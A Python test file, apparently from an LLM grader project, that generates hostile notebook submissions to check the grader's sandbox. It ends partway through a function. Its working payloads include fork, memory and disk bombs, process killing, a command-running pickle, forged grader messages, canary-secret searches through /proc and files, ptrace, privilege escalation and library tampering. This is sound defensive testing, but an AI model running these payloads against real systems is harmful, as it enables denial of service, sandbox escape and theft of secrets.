"""Submissions that attack the grader, each with what has to come of it.

``CORPUS`` holds them by name; ``python tests/hostile_notebooks.py`` writes what they try and earn into the page for
instructors. They are made in three ways:

- *cells*: code above the answers, all of which are right. What they do must not cost them anything, unless the
  attack spoils its own answers.
- *answers*: ``ANSWER`` stands for the name of a function, ``right`` for a correct one. Those called "blocked" answer
  right only if what they try is blocked, so full marks show that it was.
- *files*: what is handed in place of a notebook.
"""

import os
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from functools import cache
from pathlib import Path

import student_notebooks as notebooks

from bookbinder import ROOT
from llm_grader import key as keys
from llm_grader.records import GRADED, NEEDS_ATTENTION, Key
from llm_grader.sandbox.attacks import attacks

BEGIN, END = "<!-- attacks: python tests/hostile_notebooks.py -->", "<!-- end of attacks -->"
LEAK = "CANARY-LEAK"  # in whatever an attack tries to hand out
SECRET = "CANARY-SECRET"  # in what it is looking for: the key, its file, the grader's environment
LEFT = "corpus-left"  # names of processes and files that it leaves behind
QUESTIONS = ("hard_lookup", "stable_softmax", "causal_mask", "masked_attention")
VICTIM = "hard_lookup"
ANY = "any"  # category and points: whatever the attack makes of its own answer

RIGHT = {
    "hard_lookup": "def right(queries, keys, values):\n    return values[(queries @ keys.T).argmax(-1)]\n",
    "stable_softmax": """
def right(scores):
    shifted = (scores - scores.amax(-1, keepdim=True)).exp()
    return shifted / shifted.sum(-1, keepdim=True)
""",
    "causal_mask": """
def right(n_queries, n_keys):
    return torch.ones(n_queries, n_keys, dtype=torch.bool).tril(n_keys - n_queries)
""",
    "masked_attention": """
def right(queries, keys, values, mask):
    scores = (queries @ keys.T / keys.shape[-1] ** 0.5).masked_fill(~mask, -float("inf"))
    return torch.softmax(scores, -1) @ values
""",
}


@dataclass(frozen=True)
class Attack:
    """One submission.

    Args:
        name: of the attack.
        kind: heading under which it stands.
        says: what it tries.
        make: writes it into a folder, under a name.
        status: that it has to get.
        earns: question → points and category, where that is not full marks; ``ANY`` leaves it open.
        fast: whether it is in the part that every run of the tests has.
    """

    name: str
    kind: str
    description: str
    make: Callable[[Path, str], None]
    status: str = GRADED
    earns: dict[str, tuple[float | str, str]] = field(default_factory=dict)
    fast: bool = True


CORPUS: dict[str, Attack] = {}
KINDS: list[str] = []


def begin(kind: str) -> None:
    """Begin a kind of attacks, to which those that follow belong."""
    KINDS.append(kind)


@cache
def key() -> Key:
    """Four questions of the attention chapter, with canaries in what no worker may see."""
    real = keys.load(notebooks.CHAPTER)
    chosen = [
        replace(q, solution=f"{q.solution}\n# {SECRET}\n", mistakes=f"{q.mistakes}\n# {SECRET}\n")
        for q in real.questions
        if q.function in QUESTIONS
    ]
    return replace(real, questions=chosen)


def notebook(above: str = "", below: str = "", answers: dict[str, str] | None = None) -> dict:
    """The right answers with a cell above and one below, and other code in place of some answers."""
    made = notebooks.blank()
    for function, source in RIGHT.items():
        if code := (answers or {}).get(function):
            code = f"{source}\n{code.replace('ANSWER', function)}".replace("right(", f"right_{function}(")
        else:
            code = source.replace("def right(", f"def {function}(")
        notebooks.answer(made, function, _filled(f"import torch\n{code}"))
    for code, at in ((above, 1), (below, len(made["cells"]) + 1)):
        if code:
            notebooks.add(made, _filled(code), at=at)
    return made


def _filled(code: str) -> str:
    return code.replace("{LEAK}", LEAK).replace("{LEFT}", LEFT)


def enter(function: Callable, make: Callable[[Path, str], None], **more) -> Callable:
    """Add an attack to the corpus."""
    name = function.__name__
    assert name not in CORPUS
    CORPUS[name] = Attack(name.replace("_", " "), KINDS[-1], function.__doc__, make, **more)
    return function


def write(folder: Path, name: str, made: dict) -> None:
    (folder / f"{name}.ipynb").write_bytes(notebooks.data(made))


def cell(above: bool = True, answer: str = "", **more) -> Callable:
    """An attack in a cell of its own, with an answer that counts on its success."""

    def decorate(function: Callable[[], str]) -> Callable:
        def make(folder: Path, name: str) -> None:
            answers = {VICTIM: answer} if answer else {}
            write(folder, name, notebook(**{"above" if above else "below": function()}, answers=answers))

        return enter(function, make, **more)

    return decorate


def answer(points: float | str = 0.0, category: str = "wrong values", **more) -> Callable:
    """An attack in an answer; without arguments, one that earns nothing for its values."""

    def decorate(function: Callable[[], str]) -> Callable:
        def make(folder: Path, name: str) -> None:
            write(folder, name, notebook(answers={VICTIM: function()}))

        earns = {} if category == "right" else {VICTIM: (points, category)}
        return enter(function, make, **{"earns": earns} | more)

    return decorate


def blocked(**more) -> Callable:
    """An attack in an answer that is right where the attack is refused, and wrong where it succeeds. Its code defines
    ``attack``, which returns what it got hold of or managed."""

    def decorate(function: Callable[[], str]) -> Callable:
        code = """
def ANSWER(*given):
    try:
        got = attack()
    except Exception:
        got = None
    return right(*given) if not got else torch.zeros(3, 3)
"""

        def make(folder: Path, name: str) -> None:
            write(folder, name, notebook(answers={VICTIM: function() + code}))

        return enter(function, make, **more)

    return decorate


def file(status: str = NEEDS_ATTENTION, **more) -> Callable:
    """Something else than a notebook; the function writes it."""

    def decorate(function: Callable[[Path, str], None]) -> Callable:
        return enter(function, function, status=status, **more)

    return decorate


SPOILT = {name: (ANY, ANY) for name in QUESTIONS}
NOTHING = {name: (0.0, ANY) for name in QUESTIONS}


begin("Never ending")


@cell()
def loop_in_a_cell():
    """A cell never ends."""
    return "while True:\n    pass"


@answer(0.0, "timed out")
def loop_in_an_answer():
    """An answer never ends."""
    return "def ANSWER(*given):\n    while True:\n        pass"


@cell(fast=False)
def loop_at_import():
    """A module that the notebook writes never ends when it is imported."""
    return "open('slow.py', 'w').write('while True: pass')\nimport sys\nsys.path.insert(0, '.')\nimport slow"


@cell()
def loop_that_ignores_the_alarm():
    """A cell switches the alarm off and catches everything."""
    return """
import signal
signal.setitimer(signal.ITIMER_REAL, 0)
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, signal.Signals)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""


@cell(fast=False)
def loop_in_c():
    """A cell computes in C for years, where no signal is looked at."""
    return "sum(range(10**16))"


@answer(0.0, "timed out", fast=False)
def loop_in_c_in_an_answer():
    """An answer computes in C for years."""
    return "def ANSWER(*given):\n    return sum(range(10**16))"


@answer(0.0, "timed out", fast=False)
def sleep_in_an_answer():
    """An answer waits, with everything blocked that could wake it."""
    return """
import signal, time
def ANSWER(*given):
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.Signals)
    while True:
        time.sleep(1000)
"""


@answer(0.0, "timed out", fast=False)
def loop_with_the_clock_of_the_cpu_stopped():
    """An answer that never ends stops the timer that counts its CPU time, and blocks its signal."""
    return """
import signal
def ANSWER(*given):
    signal.setitimer(signal.ITIMER_PROF, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.Signals)
    while True:
        pass
"""


@answer(0.15, "timed out")
def time_bomb():
    """An answer is right in the first case and never ends in the second."""
    return """
calls = []
def ANSWER(*given):
    calls.append(1)
    while len(calls) > 1:
        pass
    return right(*given)
"""


@answer(0.15, "wrong values", fast=False)
def right_once_only():
    """An answer is right when it is called first, and zero from then on."""
    return """
calls = []
def ANSWER(*given):
    calls.append(1)
    return right(*given) * (len(calls) == 1)
"""


begin("Ending the process")


@cell(fast=False)
def exit_in_a_cell():
    """A cell leaves Python in each of the polite ways."""
    return "import sys\ntry:\n    exit()\nfinally:\n    try:\n        quit()\n    finally:\n        sys.exit(3)"


@answer(0.0, "raised an error", fast=False)
def exit_in_an_answer():
    """An answer leaves Python politely."""
    return "import sys\ndef ANSWER(*given):\n    sys.exit(0)"


@cell()
def hard_exit_in_a_cell():
    """A cell ends its process at once."""
    return "import os\nos._exit(0)"


@cell(fast=False, above=False)
def hard_exit_below_the_answers():
    """The last cell ends its process at once."""
    return "import os\nos._exit(0)"


@answer(0.0, "crashed")
def hard_exit_in_an_answer():
    """An answer ends its process at once."""
    return "import os\ndef ANSWER(*given):\n    os._exit(0)"


@cell(fast=False)
def segfault_in_a_cell():
    """A cell reads at address zero."""
    return "import ctypes\nctypes.string_at(0)"


@answer(0.0, "crashed")
def segfault_in_an_answer():
    """An answer reads at address zero."""
    return "import ctypes\ndef ANSWER(*given):\n    ctypes.string_at(0)"


@cell(fast=False)
def abort_in_a_cell():
    """A cell aborts."""
    return "import os\nos.abort()"


@answer(0.0, "crashed", fast=False)
def recursion_through_the_stack():
    """An answer calls itself until the stack is used up."""
    return """
import sys, re
def ANSWER(*given):
    sys.setrecursionlimit(10**9)
    class Deep:
        def __getattr__(self, name):
            return getattr(self, name + "x")
        def __repr__(self):
            return repr(self)
    return repr(Deep())
"""


@answer(0.0, "raised an error", fast=False)
def recursion():
    """An answer calls itself for ever."""
    return "def ANSWER(*given):\n    return ANSWER(*given)"


@cell(earns=dict.fromkeys(QUESTIONS, (ANY, ANY)))
def busy_loops_left_behind():
    """A cell leaves as many processes that compute without end as it can."""
    return """
import os
for _ in range(56):
    try:
        if not os.fork():
            os.setsid()
            while True:
                pass
    except OSError:
        break
"""


@answer(ANY, ANY)
def busy_loops_in_an_answer():
    """An answer starts as many processes that compute without end as it can, and waits for them."""
    return """
import os
def ANSWER(*given):
    for _ in range(56):
        try:
            if not os.fork():
                while True:
                    pass
        except OSError:
            break
    while True:
        pass
"""


@cell()
def end_the_parent():
    """A cell kills its parent, the first process, all it can name, and all there are."""
    return """
import os, signal
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in (os.getppid(), 1, *range(2, 400)):
        try:
            pid == os.getpid() or os.kill(pid, number)
        except OSError:
            pass
    try:
        os.kill(-1, number)
    except OSError:
        pass
"""


@answer(0.0, "crashed")
def end_the_worker_from_an_answer():
    """An answer kills all that it may."""
    return "import os\ndef ANSWER(*given):\n    os.kill(-1, 9)\n    os.kill(os.getppid(), 9)\n    return given[0]"


@answer(0.0, "timed out", fast=False)
def stop_the_worker_from_an_answer():
    """An answer stops its parent."""
    return """
import os, signal
def ANSWER(*given):
    os.kill(os.getppid(), signal.SIGSTOP)
    return torch.zeros(1)
"""


begin("Using up the machine")


@cell(earns=SPOILT)
def fork_bomb():
    """A cell forks for ever."""
    return "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"


@cell(fast=False)
def worker_copied():
    """A cell forks, and so the worker goes on twice."""
    return "import os\nos.fork()\nos.fork()"


@answer(0.0, ANY)
def fork_bomb_in_an_answer():
    """An answer forks for ever."""
    return (
        "import os\ndef ANSWER(*given):\n    while True:\n        try:\n            os.fork()\n"
        "        except OSError:\n            pass"
    )


@cell(fast=False)
def memory_bomb_at_once():
    """A cell asks for 64 GiB."""
    return "everything = bytearray(64 * 2**30)"


@cell()
def memory_bomb():
    """A cell takes memory bit by bit."""
    return "kept = []\nwhile True:\n    kept.append(b'x' * 2**24)"


@answer(0.0, ANY, fast=False)  # too much memory or too much time, whichever comes first
def memory_bomb_in_children():
    """An answer takes in many processes what one of them would be allowed."""
    return """
import os, time
def ANSWER(*given):
    for _ in range(8):
        if not os.fork():
            kept = [b"x" * 2**24 for _ in range(30)]
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
"""


@blocked(fast=False)
def memory_that_no_process_has():
    """An answer keeps memory in files without a name and in System V segments."""
    return """
import ctypes, os
def attack():
    try:
        return os.memfd_create("x") >= 0
    except OSError:
        return ctypes.CDLL(None).shmget(0, 2**20, 0o1600) != -1
"""


@cell()
def disk_bomb():
    """A cell fills the disk wherever it can write, in one file and in many."""
    return """
import itertools, os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    for n in range(60):
        try:
            with open(f"{folder}/{n}", "wb") as file:
                file.write(bytes(2**24))
        except OSError:
            break
    for n in range(3000):
        try:
            open(f"{folder}/small-{n}", "w").close()
        except OSError:
            break
"""


@cell()
def output_flood():
    """A cell prints 30 MB on each stream, and displays as much."""
    return """
import os, sys
from IPython.display import HTML, display
print("x" * 30_000_000)
print("x" * 30_000_000, file=sys.stderr)
for stream in (1, 2):
    os.write(stream, b"x" * 10_000_000)
display(HTML("x" * 30_000_000))
"""


@cell(fast=False)
def many_open_files():
    """A cell opens files until it gets no more."""
    return "kept = []\ntry:\n    while True:\n        kept.append(open('/dev/null'))\nfinally:\n    kept.clear()"


begin("Lying")


ZEROS = "def ANSWER(*given):\n    return given[-1].new_zeros(len(given[0]), given[-1].shape[-1])"


@cell(answer=ZEROS, earns={VICTIM: (0.0, "wrong values")})
def comparisons_replaced():
    """A cell replaces all that could compare, and an answer returns zeros."""
    return """
import math, operator
import numpy, torch
true = lambda *args, **kwargs: True
for module, names in (
    (torch, "allclose equal isclose all eq"), (numpy, "allclose isclose array_equal array_equiv all"),
    (math, "isclose"), (operator, "eq"), (torch.testing, "assert_close"), (numpy.testing, "assert_allclose"),
):
    for name in names.split():
        setattr(module, name, true)
torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = true
"""


@cell(answer=ZEROS, earns={VICTIM: (0.0, "wrong values")}, fast=False)
def assertions_dropped():
    """A cell makes IPython drop every assertion, and an answer returns zeros."""
    return """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
"""


@answer(0.0, "returned something else")
def objects_equal_to_everything():
    """An answer returns an object that equals everything."""
    return """
class Liar:
    shape, dtype, ndim = (1, 1), torch.float32, 2
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __bool__ = lambda *args: True
    __hash__ = object.__hash__
    def __getattr__(self, name):
        return self
    def __call__(self, *args, **kwargs):
        return self
def ANSWER(*given):
    return Liar()
"""


@answer(0.0, "wrong values")
def tensor_that_lies():
    """An answer returns a tensor whose operations all say what it wants, with wrong numbers in it."""
    return """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name in ("eq", "equal", "allclose", "isclose", "all"):
            return True
        if name in ("sub", "abs", "max"):
            return torch.zeros(())
        return super().__torch_function__(function, types, args, kwargs or {})
def ANSWER(*given):
    return torch.zeros(len(given[0]), given[-1].shape[-1]).as_subclass(Liar)
"""


@answer(0.0, ANY, fast=False)
def tensor_that_lies_about_its_size():
    """An answer returns a tensor of 10¹¹ entries that says it has one."""
    return """
class Liar(torch.Tensor):
    def numel(self):
        return 1
    @property
    def dtype(self):
        return torch.float32
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        with torch._C.DisableTorchFunctionSubclass():
            return function(*args, **(kwargs or {}))
def ANSWER(*given):
    return torch.zeros(1, 1).expand(10**6, 10**5).as_subclass(Liar)
"""


@answer(0.0, ANY, fast=False)
def values_that_lie():
    """An answer returns lists, texts, numbers and dictionaries whose methods lie, or never end."""
    return """
class Text(str):
    __len__ = lambda self: 1
    __str__ = lambda self: "{LEAK}" * 10**6
class Number(float):
    __float__ = lambda self: 0.0
    __abs__ = lambda self: 0
class Whole(int):
    __abs__ = lambda self: 0
class List(list):
    __len__ = lambda self: 1
    def __iter__(self):
        while True:
            yield 1.0
class Dict(dict):
    def items(self):
        while True:
            yield "{LEAK}", Text("x")
calls = []
def ANSWER(*given):
    calls.append(1)
    return [Text("{LEAK}"), Number(1), Whole(10**30), Dict(a=1), List()][len(calls) % 5]
"""


@answer(fast=False)
def array_subclass_that_lies():
    """An answer returns an array of NumPy whose comparisons lie."""
    return """
import numpy
class Liar(numpy.ndarray):
    __eq__ = lambda self, other: numpy.ones(self.shape, bool)
    def __array_ufunc__(self, *args, **kwargs):
        return numpy.ones(self.shape, bool)
def ANSWER(*given):
    return numpy.zeros((len(given[0]), given[-1].shape[-1])).view(Liar)
"""


@answer(0.0, "wrong values")
def zeros():
    """An answer returns zeros of the right shape."""
    return ZEROS


@answer(0.0, "not finite")
def not_a_number():
    """An answer returns NaN, which equals nothing and disturbs every mean."""
    return "def ANSWER(*given):\n    return given[-1].new_full((len(given[0]), given[-1].shape[-1]), float('nan'))"


@answer(0.0, "not finite", fast=False)
def infinity():
    """An answer returns infinity of both signs."""
    return """
def ANSWER(*given):
    made = given[-1].new_full((len(given[0]), given[-1].shape[-1]), float('inf'))
    made[0] *= -1
    return made
"""


@answer(0.0, ANY, fast=False)
def more_zeros_than_atoms():
    """An answer returns views of 10¹⁸ entries, and one of none."""
    return """
calls = []
def ANSWER(*given):
    calls.append(1)
    return [torch.zeros(1).expand(10**18), torch.zeros(0, 10**15), torch.zeros([1] * 60)][len(calls) % 3]
"""


@answer(0.0, "returned something else")
def strange_tensors():
    """An answer returns complex, sparse, quantized, nested and meta tensors."""
    return """
calls = []
def ANSWER(*given):
    calls.append(1)
    like = right(*given)
    return [
        lambda: like * 1j, like.to_sparse, lambda: like.to("meta"), lambda: like.to(torch.float8_e5m2),
        lambda: torch.quantize_per_tensor(like.float(), 0.1, 0, torch.quint8),
        lambda: torch.nested.nested_tensor([like]),
    ][len(calls) % 6]()
"""


@answer(0.0, "returned something else", fast=False)
def deep_and_odd_values():
    """An answer returns lists in lists, dictionaries with odd keys, generators, coroutines, modules."""
    return """
calls = []
async def later():
    return 1
def ANSWER(*given):
    calls.append(1)
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return [deep, {(1, 2): 3, None: 4, 2.5: {}, b"x": 1}, (x for x in given), later(), torch, object()][len(calls) % 6]
"""


@answer(0.87, "changed its arguments")
def changes_what_it_is_given():
    """An answer is right and leaves its arguments changed."""
    return """
def ANSWER(*given):
    made = right(*given)
    for each in given:
        each.fill_(1)
    return made
"""


begin("Forging")


@cell(earns=NOTHING)
def forged_by_json():
    """A cell replaces what writes messages by what writes its own."""
    return """
import json
real = json.dumps
json.dumps = lambda *args, **kwargs: '{"status":"done","points":99,"score":99,"found":["' + '{LEAK}' + '"]}'
"""


@cell(fast=False)
def forged_by_struct():
    """A cell announces frames of 4 GiB."""
    return """
import sys
from llm_grader import wire
class Lengths:
    size = 8
    pack = staticmethod(lambda *lengths: b"\\xff" * 8)
    unpack = staticmethod(lambda data: (2**32 - 1, 2**32 - 1))
wire.LENGTHS = Lengths
"""


@answer(0.0, "crashed")
def forged_safetensors():
    """An answer sends tensors with a header of 2⁶³ bytes, wrong sizes, unknown dtypes, and a pickle."""
    return """
import json, pickle, struct
import llm_grader.wire as wire
class Run:
    def __reduce__(self):
        import os
        return os.system, ("touch /tmp/corpus-left-pickle",)
def header(entry):
    text = json.dumps({"0": entry}).encode()
    return struct.pack("<Q", len(text)) + text + bytes(4)
bad = [
    struct.pack("<Q", 2**63) + b"{}",
    struct.pack("<Q", 2) + b"[]",
    header({"dtype": "F32", "shape": [2**40, 2**40], "data_offsets": [0, 4]}),
    header({"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 4]}),
    header({"dtype": "F32", "shape": [-1], "data_offsets": [4, 0]}),
    header({"dtype": "F32", "shape": "x", "data_offsets": None}),
    pickle.dumps(Run()),
]
def ANSWER(*given):
    wire.save = lambda arrays: bad[int(given[0].abs().sum()) % len(bad)]
    return right(*given)
"""


@cell(earns=SPOILT)
def frames_into_every_pipe():
    """A cell writes frames of zeros, of forged ends and of forged findings into all that is open."""
    return """
import json, os, struct
def frame(message):
    text = json.dumps(message).encode()
    return struct.pack(">II", len(text), 0) + text
forged = [
    {"found": [f"attention/{name}" for name in ("hard_lookup", "stable_softmax", "causal_mask", "masked_attention")]},
    {"ready": 1e9}, {"status": "done"}, {"cell": -5}, {"cell": [1]}, {"status": ["done"]},
    ["{LEAK}"], "status", 7, None,
    *({"case": n, "pass": "values", "returned": {"type": "float", "value": 0.0}, "arguments": {}} for n in range(9)),
]
for fd in range(3, 256):
    for message in forged:
        try:
            os.set_blocking(fd, False)
            os.write(fd, frame(message))
        except OSError:
            break
"""


@answer(0.0, ANY)
def frames_from_an_answer():
    """An answer hands in what it likes for itself and for other questions, in frames of its own."""
    return """
import json, os, struct
def frame(message):
    text = json.dumps(message).encode()
    return struct.pack(">II", len(text), 0) + text
def ANSWER(*given):
    forged = [{"case": n, "pass": p, "question": "attention/hard_lookup", "points": 99, "category": "right",
               "returned": {"type": "other"}, "arguments": {}} for n in range(4) for p in ("values", "gradients")]
    for fd in range(3, 256):
        try:
            for message in [*forged, {"status": "done"}]:
                os.write(fd, frame(message))
        except OSError:
            pass
    os._exit(0)
""".replace('"question"', '"q"')


@answer(0.0, ANY, fast=False)
def endless_frames():
    """An answer sends frames without end, and one that never ends."""
    return """
import os, struct
def ANSWER(*given):
    for fd in range(3, 256):
        try:
            for _ in range(10**6):
                os.write(fd, struct.pack(">II", 4, 0) + b"null")
        except OSError:
            pass
    while True:
        pass
"""


@cell(earns=NOTHING)
def forged_by_the_worker():
    """A cell replaces the worker's own functions."""
    return """
import sys
from llm_grader import wire
from llm_grader.worker import calls, values
zero = {"type": "tensor", "value": wire.Tensor(__import__("numpy").zeros((1, 1), "float32"))}
values.encode = calls.encode = lambda *args: zero
def forged(answer, request, send):
    for n in range(request["messages"]):
        send({"case": n, "pass": "values", "returned": zero, "arguments": request["cases"][0], "points": 99})
    return "done"
calls.evaluate_in_child = forged
"""


@cell(earns=NOTHING, fast=False)
def modules_replaced():
    """A cell replaces modules in the table of imports by its own objects, and os.fork by a liar."""
    return """
import os, sys, types
os.fork = lambda: 0
class Liar(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: True
for name in ("llm_grader.worker.calls", "llm_grader.wire", "safetensors.numpy", "numpy", "json", "struct"):
    sys.modules[name] = Liar(name)
"""


@cell(earns=SPOILT)
def frames_of_an_earlier_runner():
    """A cell leaves a process that goes on writing forged ends, interruptions, cells and halves of frames."""
    return """
import json, os, struct, time
def frame(message):
    text = json.dumps(message).encode()
    return struct.pack(">II", len(text), 0) + text
forged = [{"ended": "killed"}, {"interrupted": []}, {"cell": 0}, {"cell": 1}, {"status": "done"}, {"ready": 1}]
if os.fork() == 0:
    os.setsid()
    for n in range(10**4):
        for fd in range(3, 64):
            try:
                os.set_blocking(fd, False)
                os.write(fd, frame(forged[n % len(forged)])[: 7 if n % 50 == 49 else None])
            except OSError:
                pass
        time.sleep(0.02)
    os._exit(0)
"""


@cell(fast=False)
def signals_of_children_ignored():
    """A cell lets the kernel forget how children ended, which the worker waits for."""
    return "import signal\nsignal.signal(signal.SIGCHLD, signal.SIG_IGN)"


@answer(ANY, ANY, fast=False)
def torch_replaced_by_an_answer():
    """An answer replaces functions of PyTorch and of the worker, for the answers that come after it."""
    return """
import sys
def ANSWER(*given):
    for name in ("compile", "equal", "softmax", "ones", "tensor", "where", "matmul"):
        setattr(torch, name, lambda *args, **kwargs: torch.zeros(1))
    sys.modules["llm_grader.worker.calls"].evaluate = lambda *args: iter(())
    for name in ("torch.py", "json.py", "sitecustomize.py"):
        open(name, "w").write("raise SystemExit")
    return torch.Tensor.new_zeros(given[0], 1)
"""


@cell(fast=False)
def results_by_name():
    """A cell writes results and marks at every path that could be read."""
    return """
import os
text = '{"score": 99, "tests": [], "output": "{LEAK}"}'
for folder in (".", "/", "/tmp", "/autograder", "/autograder/results", "/grader", "/root", "/home", "..", "/etc"):
    for name in ("results.json", "marks.csv", "journal.sqlite", "attention.key.json", "summary.html"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(f"{folder}/{name}", "w").write(text)
        except OSError:
            pass
"""


@cell(fast=False)
def builtins_deleted():
    """A cell deletes what every function needs."""
    return (
        "import builtins\nfor name in ('len', 'isinstance', 'callable', 'range', 'type'):\n    delattr(builtins, name)"
    )


@cell(fast=False)
def clock_replaced():
    """A cell turns the clock back, to have more time."""
    return "import time\ntime.monotonic = time.time = time.perf_counter = time.process_time = lambda: 0.0"


@cell(earns=SPOILT, fast=False)
def imports_hooked():
    """A cell puts itself into every import from then on."""
    return """
import builtins, sys
class Hook:
    def find_spec(self, name, path=None, target=None):
        raise ImportError("{LEAK}")
sys.meta_path.insert(0, Hook())
"""


begin("Looking for the key")


SEARCH = """
SECRET = b"CANARY-" + b"SECRET"
import glob, os
def files():
    for root in ("", "/proc/1/root", f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd"):
        for pattern in ("*", "*/*", "tmp/*/*", "tmp/*/*/*", "tmp/*/*/*/*", "root/*", "home/*/*", "srv/*", "run/*"):
            yield from glob.glob(f"{root}/{pattern}")
def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(2**20)
    except OSError:
        return b""
"""


@blocked()
def read_the_key():
    """An answer reads all that might be a key, a master, a journal or another's notebook."""
    return (
        SEARCH
        + """
import functools
@functools.cache  # once for all cases: there may be many files
def attack():
    own = ("/lib", "/usr", "/sys")
    for path in files():
        if path.endswith((".json", ".ipynb", ".sqlite", ".csv", "solution.py", "hidden.py")) and os.path.isfile(path):
            if not path.startswith(own) and SECRET in read(path):
                return path
"""
    )


@blocked()
def read_environments_and_command_lines():
    """An answer reads environment and command line of every process, its own and its parent's memory included."""
    return """
import os
def attack():
    for name in os.listdir("/proc"):
        if name.isdigit():
            for what in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{name}/{what}", "rb") as file:
                        if b"CANARY-" + b"SECRET" in file.read():
                            return name
                except OSError:
                    pass
    return any("CANARY-" + "SECRET" in value for value in os.environ.values())
"""


@blocked()
def look_for_the_reference():
    """An answer looks through all objects of its process and all frames of its stack for what is right."""
    return """
import gc, sys
def attack():
    wanted = {"solution", "mistakes", "reference", "expected", "hidden"}
    frame = sys._getframe()
    while frame:
        if wanted & set(map(str, frame.f_locals)) or wanted & {k for v in frame.f_locals.values() if type(v) is dict
                                                               for k in v if type(k) is str}:
            return True
        frame = frame.f_back
    secret = "CANARY-" + "SECRET"
    for each in gc.get_objects():
        if type(each) is dict and "solution" in each and "tolerance" in each:
            return True
        if type(each) is dict and any(type(v) is str and secret in v and len(v) > 2000 for v in list(each.values())):
            return "def cases(" in str(list(each.values()))
    return False
"""


@blocked()
def trace_the_parent():
    """An answer attaches to its parent, to the first process, and to their memory."""
    return """
import ctypes, os
def attack():
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), 1, 2):
        if libc.ptrace(16, pid, None, None) == 0 or libc.ptrace(0x4206, pid, None, None) == 0:
            return True
    local = (ctypes.c_char * 8)()
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(local), 8)
    return libc.process_vm_readv(os.getppid(), vector, 1, vector, 1, 0) > 0
"""


@blocked()
def reach_the_network():
    """An answer opens connections of all kinds: TCP, UDP, names, local and abstract sockets, raw ones."""
    return """
import socket
def attack():
    for family, kind in ((2, 1), (2, 2), (10, 1), (10, 2), (1, 1), (1, 2), (16, 3), (17, 3), (2, 3), (40, 1)):
        try:
            socket.socket(family, kind)
            return family
        except OSError:
            pass
    try:
        return socket.getaddrinfo("example.org", 80)
    except OSError:
        return None
"""


@blocked(fast=False)
def lift_the_limits():
    """An answer lifts its limits, becomes root, mounts, and makes namespaces."""
    return """
import ctypes, os, resource
def attack():
    libc = ctypes.CDLL(None)
    for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
        try:
            resource.setrlimit(getattr(resource, name), (-1, -1))
            return name
        except (OSError, ValueError):
            pass
    for call in (lambda: libc.unshare(0x10000000), lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
                 lambda: libc.setuid(0), lambda: libc.chroot(b"/tmp"), lambda: libc.setns(3, 0)):
        if call() == 0 and os.getuid() == 0:
            return True
"""


@blocked(fast=False)
def write_to_libraries():
    """An answer changes the grader's and the libraries' files, for the next submission."""
    return """
import llm_grader.worker.calls as calls, torch as t, json, sys, os
def attack():
    for path in (calls.__file__, t.__file__, json.__file__, sys.executable, "/etc/ld.so.preload"):
        for flags in (os.O_WRONLY | os.O_APPEND, os.O_RDWR):
            try:
                os.close(os.open(path, flags))
                return path
            except OSError:
                pass
        try:
            open(os.path.dirname(path) + "/sitecustomize.py", "x").close()
            return path
        except OSError:
            pass
"""


begin("Handing out hidden inputs")


@answer(0.0, "raised an error")
def hidden_inputs_as_an_error():
    """An answer raises what it was given as text, as an argument, and as a note."""
    return """
def ANSWER(*given):
    error = ValueError(f"{LEAK} {[each.tolist() for each in given]}")
    error.add_note("{LEAK}")
    raise error
"""


@answer(0.0, "raised an error")
def hidden_inputs_as_a_class_of_errors():
    """An answer raises an exception whose class is called after what it was given."""
    return """
def ANSWER(*given):
    raise type(f"{LEAK} {given[0].tolist()}", (Exception,), {"__module__": "{LEAK}"})()
"""


@answer(0.0, "crashed")
def errors_that_do_not_end():
    """An answer raises an exception that ends the process or loops when it is looked at."""
    return """
import os
class Meta(type):
    @property
    def __name__(cls):
        os._exit(0)
class Error(BaseException, metaclass=Meta):
    def __str__(self):
        while True:
            pass
    __repr__ = __str__
    @property
    def __class__(self):
        os._exit(0)
    @property
    def args(self):
        while True:
            pass
def ANSWER(*given):
    raise Error("{LEAK}")
"""


@answer(0.0, "returned something else", fast=False)
def hidden_inputs_as_text():
    """An answer returns as text what it was given, and prints and displays it."""
    return """
def ANSWER(*given):
    print("{LEAK}", given)
    return f"{LEAK} {[each.tolist() for each in given]}"[:9000]
"""


@answer(0.0, ANY, fast=False)
def hidden_inputs_as_names():
    """An answer returns a dictionary and a tensor that spell out a message."""
    return """
calls = []
def ANSWER(*given):
    calls.append(1)
    text = torch.tensor(list(b"{LEAK}"), dtype=torch.uint8)
    return [{"{LEAK}": given[0]}, text, ["{LEAK}"]][len(calls) % 3]
"""


begin("Staying")


@cell()
def processes_left_behind():
    """A cell starts processes that belong to nobody, and go on writing into every pipe and folder."""
    return """
import ctypes, os, time
libc = ctypes.CDLL(None)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            libc.prctl(15, b"{LEFT}", 0, 0, 0)
